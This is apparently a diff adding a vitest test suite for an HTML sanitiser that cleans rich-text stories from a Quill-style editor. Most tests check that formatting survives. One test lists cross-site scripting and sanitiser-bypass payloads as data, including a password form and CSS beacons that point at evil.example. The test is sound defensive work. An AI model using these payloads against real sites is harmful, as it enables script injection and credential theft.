@@ -1,0 +1,91 @@
+import { describe, expect, it } from "vitest";
+import { harmlessStory } from "./story-html.ts";
+
+describe("a story", () => {
+  it("keeps everything that the editor's toolbar makes", () => {
+    const made = [
+      "<h1>One</h1><h6>Six</h6>",
+      '<p class="ql-align-center ql-indent-3 ql-direction-rtl">A <strong>b</strong> <em>i</em> <u>u</u> <s>s</s></p>',
+      '<p><span class="ql-size-huge ql-font-serif" style="color:#e60000;background-color:rgb(255, 255, 0)">big</span></p>',
+      "<blockquote>said</blockquote>",
+      '<div class="ql-code-block-container"><div class="ql-code-block">code</div></div><pre class="ql-syntax">old</pre>',
+      '<ol><li data-list="bullet">one</li><li data-list="ordered" class="ql-indent-1">two</li></ol><ul><li>x</li></ul>',
+      "<p>H<sub>2</sub>O m<sup>2</sup><br /></p>",
+    ].join("");
+    expect(harmlessStory(made)).toBe(made);
+  });
+
+  it("opens links apart, without reputation", () => {
+    expect(harmlessStory('<a href="https://example.org/a" rel="opener follow" target="_top">x</a>')).toBe(
+      '<a href="https://example.org/a" rel="noopener nofollow" target="_blank">x</a>',
+    );
+  });
+
+  it("takes pictures from this site and over https only", () => {
+    expect(harmlessStory('<img src="/pictures/a.webp" alt="a">')).toContain('src="/pictures/a.webp"');
+    expect(harmlessStory('<img src="https://example.org/a.webp">')).toContain("https://example.org/a.webp");
+    for (const src of [
+      "//evil.example/a.png",
+      "http://evil.example/a.png",
+      "data:image/png;base64,AAAA",
+      "javascript:1",
+      "blob:x",
+      "",
+    ])
+      expect(harmlessStory(`<p>a<img src="${src}">b</p>`)).toBe("<p>ab</p>");
+  });
+
+  it.each([
+    ["<script>alert(1)</script>"],
+    ["<img src=x onerror=alert(1)>"],
+    ["<svg onload=alert(1)><script>alert(1)</script></svg>"],
+    ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
+    ['<a href="javascript:alert(1)">x</a>'],
+    ['<a href="java\nscript:alert(1)">x</a>'],
+    ['<a href="&#106;avascript:alert(1)">x</a>'],
+    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+    ['<a href="vbscript:msgbox(1)">x</a>'],
+    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['<iframe src="https://www.youtube.com/embed/aaaaaaaaaaa"></iframe>'],
+    ['<object data="x"></object><embed src="x">'],
+    ["<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"],
+    ["<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"],
+    ["<form action='https://evil.example'><input name=password><button>x</button></form>"],
+    ['<p style="background:url(javascript:alert(1));width:expression(alert(1));position:fixed">x</p>'],
+    ['<p style="color:red;background-image:url(https://evil.example/beacon)">x</p>'],
+    ["<style>@import 'https://evil.example'</style>"],
+    ['<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=//evil">'],
+    ['<base href="https://evil.example/">'],
+    ['<p id="root" name="x" onclick="alert(1)" class="admin fixed ql-evil">x</p>'],
+    ["<p onmouseover = alert(1) / class=ql-align-center>x</p>"],
+    ["<template><script>alert(1)</script></template>"],
+    ['<a href="//evil.example">x</a>'],
+    ["<textarea><img src=x onerror=alert(1)></textarea>"],
+    ["<xmp><img src=x onerror=alert(1)></xmp>"],
+    ["<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>"],
+    ["<![CDATA[<script>alert(1)</script>]]>"],
+    ["<!--><img src=x onerror=alert(1)>-->"],
+  ])("is harmless after %j", (hostile) => {
+    const story = harmlessStory(hostile);
+    expect(story).not.toMatch(
+      /<(script|svg|math|iframe|object|embed|form|input|button|style|link|meta|base|template|textarea|noscript|xmp|animate)\b/i,
+    );
+    expect(tagsOf(story).join(" ")).not.toMatch(
+      /\bon\w+\s*=|javascript:|vbscript:|data:|url\(|expression|position|\bid=|\bname=|evil/i,
+    );
+  });
+
+  it("gives the same when it is made harmless twice", () => {
+    const story =
+      '<p class="ql-align-right">a <a href="https://example.org">b</a> &lt;script&gt; <img src="/a.webp" /></p>';
+    expect(harmlessStory(harmlessStory(story))).toBe(harmlessStory(story));
+  });
+
+  it("survives a story of deep nesting", () => {
+    const deep = `${"<blockquote>".repeat(20_000)}x`;
+    expect(harmlessStory(deep).length).toBeLessThan(5_000);
+  });
+});
+
+/** The tags of some HTML, each as written: text between them cannot act. */
+const tagsOf = (html: string) => html.match(/<[^>]*>/g) ?? [];
